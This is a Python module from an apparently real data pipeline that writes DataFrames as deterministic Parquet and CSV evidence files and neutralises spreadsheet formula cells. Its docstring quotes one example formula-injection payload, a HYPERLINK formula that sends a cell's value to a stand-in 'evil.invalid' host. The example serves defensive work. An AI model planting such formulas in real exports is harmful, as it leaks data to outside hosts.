"""DataFrames as evidence files: the Arrow table, deterministic Parquet bytes, CSV, and CSV row counts.

What "deterministic" means here (and which CSV conventions auditors can rely on) is described in the
docstring of `store.py`.

CSV formula injection: an auditor opens the CSV in Excel or LibreOffice, which execute a cell that
starts with `=`, `+`, `-` or `@` (and, through some import paths, a tab or carriage return), e.g. a
user named `=HYPERLINK("https://evil.invalid/?q="&A1,"click")`. Following OWASP's guidance, every
*text* cell that starts with one of those characters gets a leading `'` in the CSV, which
spreadsheets show as text. Numbers, booleans and timestamps are never text cells, so `-5` in a
numeric column stays `-5`. The Parquet file keeps the exact value; the CSV is the human copy.
"""

from __future__ import annotations

import hashlib
import io
import itertools
import tempfile
from collections.abc import Iterator
from typing import Any, BinaryIO

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq

from aircall_pipeline.evidence.backends import Blob
from aircall_pipeline.evidence.errors import EvidenceStoreError


def _iso_timestamp_array(column: pa.Array) -> pa.Array:
    """Timestamps -> ISO-8601 UTC strings at the column's unit (s: `...T03:04:05Z`, us: six digits).

    Arrow's tz-aware timestamps hold UTC instants, so dropping the zone keeps the UTC wall clock,
    and Arrow's own timestamp-to-string cast is far faster than strftime on a million rows."""
    naive = column.cast(pa.timestamp(column.type.unit))
    text = pc.replace_substring(naive.cast(pa.string()), " ", "T", max_replacements=1)
    return pc.binary_join_element_wise(text, pa.scalar("Z"), "")


def arrow_table(df: pd.DataFrame) -> pa.Table:
    if not isinstance(df, pd.DataFrame):
        raise EvidenceStoreError(
            f"evidence tables are pandas DataFrames, got {type(df).__name__}", kind="invalid_input"
        )
    if df.columns.duplicated().any() or not all(isinstance(c, str) for c in df.columns):
        raise EvidenceStoreError(
            f"evidence tables need unique string column names, got {list(df.columns)!r}",
            kind="invalid_input",
        )
    try:
        table = pa.Table.from_pandas(df, preserve_index=False)
    except (pa.ArrowInvalid, pa.ArrowTypeError) as exc:
        raise EvidenceStoreError(
            f"cannot store this frame as Parquet ({exc}); give every column one type", kind="invalid_input"
        ) from None
    # Naive timestamps are UTC by the project's convention; store them as such.
    for i, fld in enumerate(table.schema):
        if pa.types.is_timestamp(fld.type) and fld.type.tz is None:
            table = table.set_column(
                i,
                pa.field(fld.name, pa.timestamp(fld.type.unit, tz="UTC")),
                table.column(i).cast(pa.timestamp(fld.type.unit, tz="UTC")),
            )
    # The "creator" entry of the pandas metadata names library versions; keep the rest (it restores
    # nullable Int64 and similar dtypes on read) and nothing time-dependent is written.
    return table


def parquet_bytes(table: pa.Table) -> bytes:
    sink = pa.BufferOutputStream()
    pq.write_table(
        table,
        sink,
        compression="zstd",
        use_dictionary=True,
        write_statistics=True,
        store_schema=True,
    )
    return sink.getvalue().to_pybytes()


CSV_BATCH_ROWS = 100_000
SPOOL_LIMIT = 16 * 1024 * 1024

# The first characters that make a spreadsheet evaluate a cell (OWASP "CSV Injection"), and the
# prefix that makes it text instead. RE2 syntax (Arrow's regex engine).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULA_PREFIX = "'"
_FORMULA_CELL = r"^([=+\-@\t\r])"


def neutralise_formulas(column: pa.Array) -> pa.Array:
    """A text column with `'` put before every value that starts with a formula character."""
    return pc.replace_substring_regex(column, _FORMULA_CELL, FORMULA_PREFIX + r"\1", max_replacements=1)


def _is_text(typ: pa.DataType) -> bool:
    return pa.types.is_string(typ) or pa.types.is_large_string(typ)


def _csv_ready(batch: pa.RecordBatch) -> pa.RecordBatch:
    columns = []
    for column in batch.columns:
        if pa.types.is_timestamp(column.type):
            column = _iso_timestamp_array(column)
        elif pa.types.is_date(column.type):
            column = column.cast(pa.string())
        elif pa.types.is_dictionary(column.type) and _is_text(column.type.value_type):
            column = neutralise_formulas(column.cast(column.type.value_type))
        elif _is_text(column.type):
            column = neutralise_formulas(column)
        elif not _csv_writable(column.type):
            # Lists, structs, binary...: written as their Python text, which can start with anything.
            text = pa.array([None if v is None else str(v) for v in column.to_pylist()], pa.string())
            column = neutralise_formulas(text)
        columns.append(column)
    return pa.RecordBatch.from_arrays(columns, names=batch.schema.names)


class _HashingWriter(io.RawIOBase):
    """A write-only file that hashes and counts what passes through into `target`."""

    def __init__(self, target: BinaryIO):
        self.target, self.digest, self.size = target, hashlib.sha256(), 0

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        view = memoryview(data).cast("B")
        self.digest.update(view)
        self.target.write(view)
        self.size += len(view)
        return len(view)


def csv_blob(table: pa.Table) -> Blob:
    """The table as CSV, converted a batch at a time into a spooled temporary file (memory up to
    SPOOL_LIMIT, then disk), hashed on the way: a big table never exists twice as CSV text in memory.

    A column whose sub-second check differs between batches would get two timestamp formats, so the
    seconds-or-microseconds choice is made once per column over the whole table first."""
    precise = {
        name
        for name, column in zip(table.column_names, table.columns, strict=True)
        if pa.types.is_timestamp(column.type) and _has_subseconds(column)
    }
    return _csv_from_batches(iter(table.to_batches(max_chunksize=CSV_BATCH_ROWS)), table.schema, precise)


def _has_subseconds(column: pa.ChunkedArray) -> bool:
    unit = column.type.unit
    if unit == "s":
        return False
    naive = column.cast(pa.timestamp(unit))
    whole = naive.cast(pa.timestamp("s"), safe=False).cast(pa.timestamp(unit))
    return pc.all(pc.equal(naive, whole)).as_py() is False


def _with_precision(batch: pa.RecordBatch, precise: set[str]) -> pa.RecordBatch:
    """Timestamp columns cast to us (sub-second values present) or s (none): one format per column."""
    columns = []
    for name, column in zip(batch.schema.names, batch.columns, strict=True):
        if pa.types.is_timestamp(column.type):
            column = column.cast(pa.timestamp("us" if name in precise else "s", tz="UTC"), safe=False)
        columns.append(column)
    return pa.RecordBatch.from_arrays(columns, names=batch.schema.names)


def _csv_writable(typ: pa.DataType) -> bool:
    return (
        pa.types.is_integer(typ)
        or pa.types.is_floating(typ)
        or pa.types.is_boolean(typ)
        or pa.types.is_string(typ)
        or pa.types.is_large_string(typ)
        or pa.types.is_null(typ)
        or pa.types.is_decimal(typ)
        or (pa.types.is_dictionary(typ) and pa.types.is_string(typ.value_type))
    )


_COUNT_SLICE = 256 * 1024


def count_csv_rows(chunks: Iterator[bytes]) -> int | None:
    """Data rows of a CSV (header excluded), honouring quoted newlines; None when it ends inside a
    quoted value (not a complete CSV).

    One pass over the chunks, holding one at a time: the records are the line ends outside double
    quotes (a doubled quote inside a quoted value toggles the state twice, leaving it as it was),
    plus a last record without its line end. A parsing reader held tens of MB of read-ahead for a
    big day's CSV. The store's CSVs never hold an empty line; one added later counts as a row (so
    `verify` reports the changed count)."""
    inside, records, last = False, 0, b"\n"
    for chunk in chunks:
        if not chunk:
            continue
        for start in range(0, len(chunk), _COUNT_SLICE):  # slices keep the split's parts few
            for i, part in enumerate(chunk[start:start + _COUNT_SLICE].split(b'"')):
                if i:
                    inside = not inside
                if not inside:
                    records += part.count(b"\n")
        last = chunk[-1:]
    if inside:
        return None
    if last != b"\n":
        records += 1  # the last record has no line end
    return max(0, records - 1)


class _ChunkReader(io.RawIOBase):
    def __init__(self, chunks: Iterator[bytes]):
        self._chunks, self._pending = iter(chunks), b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        while not self._pending:
            try:
                self._pending = next(self._chunks)
            except StopIteration:
                return 0
        n = min(len(buffer), len(self._pending))
        buffer[:n] = self._pending[:n]
        self._pending = self._pending[n:]
        return n


# --------------------------------------------------------------------------------------------------
# Tables written a batch at a time (the calls of a big day)

# Rows per Parquet row group of a streamed table. The groups are cut at fixed row counts whatever the
# batches handed in, so the same rows give the same bytes however they arrived (a rerun is a no-op);
# a table of at most this many rows is one group, byte for byte what `write_table` writes for it.
ROW_GROUP_ROWS = 20_000
_PARQUET_OPTIONS = dict(compression="zstd", use_dictionary=True, write_statistics=True, store_schema=True)


class SpooledTable:
    """A table built a batch (DataFrame) at a time into a temporary Parquet file, hashed as it is
    written, so a big day never sits in memory whole. Hand it to `EvidenceStore.write_table` (or
    return it from an asset, for the evidence IO manager) in place of a DataFrame: the store writes
    the CSV from the temporary Parquet, a batch at a time, then publishes both files write-once.

    Every batch must have the first one's columns and types (its schema is the file's). `head` keeps
    the first rows (with their dtypes) for the materialization's preview and column types. Closing
    it, or garbage collection, deletes the temporary file: nothing of it is ever published by itself.
    """

    def __init__(self, row_group_rows: int | None = None, head_rows: int = 5):
        self.row_group_rows = row_group_rows or ROW_GROUP_ROWS
        self.head_rows = head_rows
        self.rows = 0
        self.head: pd.DataFrame | None = None
        self.schema: pa.Schema | None = None
        self.precise: set[str] = set()  # timestamp columns with sub-second values (CSV format)
        # On disk from the first byte: a spooled file would hold SPOOL_LIMIT in memory, then copy it.
        self._spool = tempfile.TemporaryFile()
        self._hashing = _HashingWriter(self._spool)
        self._writer: pq.ParquetWriter | None = None
        self._pending: list[pa.Table] = []
        self._pending_rows = 0
        self._blob: Blob | None = None

    def write(self, df: pd.DataFrame) -> None:
        """Add a batch of rows (the first batch, even an empty one, fixes the schema)."""
        if self._blob is not None:
            raise EvidenceStoreError("this table is finished: no batch can be added", kind="invalid_input")
        table = arrow_table(df)
        if self.schema is None:
            self.schema = table.schema
            self.head = df.head(self.head_rows).copy()
            self._writer = pq.ParquetWriter(pa.PythonFile(self._hashing, mode="w"), self.schema,
                                            **_PARQUET_OPTIONS)
        elif not table.schema.equals(self.schema, check_metadata=False):
            raise EvidenceStoreError(
                f"a batch of this table has the columns {table.schema} where the first had {self.schema}: "
                "every batch must have the same columns and types",
                kind="invalid_input",
            )
        elif self.head is not None and len(self.head) < self.head_rows:
            self.head = pd.concat([self.head, df.head(self.head_rows - len(self.head))], ignore_index=True)
        self.precise |= {name for name, column in zip(table.column_names, table.columns, strict=True)
                         if pa.types.is_timestamp(column.type) and _has_subseconds(column)}
        if table.num_rows:
            self._pending.append(table)
            self._pending_rows += table.num_rows
            self.rows += table.num_rows
        while self._pending_rows >= self.row_group_rows:
            self._write_group(self.row_group_rows)

    def _write_group(self, rows: int) -> None:
        """Write the first `rows` pending rows as one row group, from one contiguous chunk per column
        (so the bytes do not depend on how the rows were batched)."""
        pending = pa.concat_tables(self._pending)
        group, rest = pending.slice(0, rows), pending.slice(rows)
        assert self._writer is not None
        self._writer.write_table(group.combine_chunks(), row_group_size=rows or None)
        self._pending = [rest] if rest.num_rows else []
        self._pending_rows = rest.num_rows

    def finish(self) -> Blob:
        """Write the last row group and close the Parquet file: its bytes, sha256 and size."""
        if self._blob is None:
            if self._writer is None:
                raise EvidenceStoreError("a streamed table got no batch at all, not even an empty one "
                                         "that gives its columns", kind="invalid_input")
            if self._pending_rows or self.rows == 0:
                # An empty table is written as `write_table` writes one (the schema, no rows).
                self._pending = self._pending or [self.schema.empty_table()]
                self._write_group(self._pending_rows)
            self._writer.close()
            self._blob = Blob(file=self._spool, sha256=self._hashing.digest.hexdigest(), size=self._hashing.size)
        return self._blob

    def csv_blob(self) -> Blob:
        """The CSV of the finished table, read back from its Parquet a row group at a time: the same
        bytes `csv_blob` gives for the whole table (one timestamp format per column, formula cells
        neutralised)."""
        parquet = pq.ParquetFile(pa.PythonFile(self.finish().open(), mode="r"))
        batches = (batch for i in range(parquet.num_row_groups)
                   for batch in parquet.read_row_group(i).to_batches(max_chunksize=CSV_BATCH_ROWS))
        return _csv_from_batches(batches, self.schema, self.precise, spool=tempfile.TemporaryFile())

    def close(self) -> None:
        """Delete the temporary file (a writer left open is closed first, into it)."""
        if self._writer is not None and self._blob is None:
            try:
                self._writer.close()
            except (OSError, ValueError, pa.ArrowException):
                pass  # the file is being thrown away
        self._spool.close()


def _csv_from_batches(batches: Iterator[pa.RecordBatch], schema: pa.Schema, precise: set[str],
                      spool: BinaryIO | None = None) -> Blob:
    """CSV of `batches` (all of `schema`) into `spool` (by default a spooled temporary file), hashed
    as it is written."""
    spool = spool if spool is not None else tempfile.SpooledTemporaryFile(max_size=SPOOL_LIMIT)
    try:
        writer_sink = _HashingWriter(spool)
        sink = pa.PythonFile(writer_sink, mode="w")
        options = pa_csv.WriteOptions(include_header=True, quoting_style="needed")
        writer = None
        for batch in itertools.chain(batches, [pa.RecordBatch.from_pylist([], schema=schema)]):
            if writer is not None and not batch.num_rows:
                continue  # the empty batch only gives an empty table its header
            ready = _csv_ready(_with_precision(batch, precise))
            if writer is None:
                writer = pa_csv.CSVWriter(sink, ready.schema, write_options=options)
            writer.write_batch(ready)
        assert writer is not None
        writer.close()
    except BaseException:
        spool.close()
        raise
    return Blob(file=spool, sha256=writer_sink.digest.hexdigest(), size=writer_sink.size)
